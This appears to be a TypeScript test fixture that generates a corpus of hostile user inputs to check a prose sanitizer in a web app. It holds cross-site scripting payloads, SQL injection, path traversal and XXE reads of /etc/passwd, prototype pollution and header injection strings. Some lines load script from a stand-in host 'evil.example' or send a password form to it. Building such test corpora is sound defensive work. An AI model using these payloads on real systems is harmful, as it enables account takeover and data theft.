/** What visitors have tried, wherever they could type, to be more than text. Each would set `window.pwned` where it worked. */
import { cleanProse } from '#client/prose.ts'

const act = 'window.pwned=1'

const products = (...lists: string[][]): string[][] =>
  lists.reduce<string[][]>((all, list) => all.flatMap((one) => list.map((each) => [...one, each])), [[]])

/** Elements that come to life by themselves, with every way to notice it. */
const handlers = products(
  [
    'img src=x',
    'svg',
    'body',
    'details open',
    'input autofocus',
    'video src=x',
    'audio src=x',
    'iframe',
    'object data=x',
  ],
  ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onpageshow'],
).map(([element, handler]) => `<${element} ${handler}=${act}>`)

/** Addresses that run instead of leading somewhere, in everything that takes an address. */
const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `&#106;avascript:${act}`,
  `javascript://%0a${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>parent.pwned=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==`,
]
const takers: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[ici](${address})`,
  (address) => `![ici](${address})`,
  (address) => `<a href="${address}">ici</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>ici</button></form>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>ici</text></a></svg>`,
]

/** Ways out of where a careless page might have put the words. */
const exits = [
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  ']]>',
  '</p></div>',
  '\\">',
  '`>',
  '%22%3E',
]
const entries = [
  `<script>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<svg/onload=${act}>`,
  `<ScRiPt\n>${act}</sCrIpT\n>`,
]

/** Templates, data that poses as structure, letters that pose as others, and markup that changes while it is cleaned. */
const oddities = [
  `{{constructor.constructor("${act}")()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  '{"__proto__":{"pwned":1}}',
  '__proto__',
  'constructor',
  '[object Object]',
  'null',
  'undefined',
  "'; drop table messages; --",
  "' or '1'='1",
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie: comptoir_session=x',
  '＜script＞window.pwned=1＜/script＞',
  '‹script›window.pwned=1‹/script›',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<svg><style><img src=x onerror=${act}></style></svg>`,
  `<x contenteditable onblur=${act}>`,
  `<style>@import "//evil.example/x.css"; * { display: none !important }</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<div style="background:url(//evil.example/x)">`,
  `<p style="position:fixed;inset:0;background:red">`,
  '<h1>Comptoir</h1><form action=//evil.example><input name=password>',
  '</div></section></main><script src=//evil.example/x.js></script>',
  '<!doctype html><html><head><title>Comptoir</title>',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  `https://shop.example/"onmouseover="${act}`,
  `https://shop.example/'onmouseover='${act}`,
  `https://shop.example/<img/src/onerror=${act}>`,
  `https://shop.example/?q=<script>${act}</script>`,
  'https://ada:passphrase@evil.example/',
  'https://shop.example\\@evil.example/',
  'http://[::1]/ http://0x7f000001/ http://①②⑦.0.0.1/',
  'https://xn--80ak6aa92e.com/ https://аррӏе.com/',
  '//evil.example/x',
  'file:///etc/passwd',
  'مرحبا <b>بك</b> https://shop.example/مرحبا',
  '\u2067retourné <script>\u2069',
  'z\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(60),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(30),
  'm'.repeat(4_000),
]

/** As they can be stored, each once. */
export const attempts: readonly string[] = [
  ...new Set(
    [
      ...handlers,
      ...addresses.flatMap((address) => takers.map((take) => take(address))),
      ...products(exits, entries).map((parts) => parts.join('')),
      ...oddities,
    ].map(cleanProse),
  ),
]
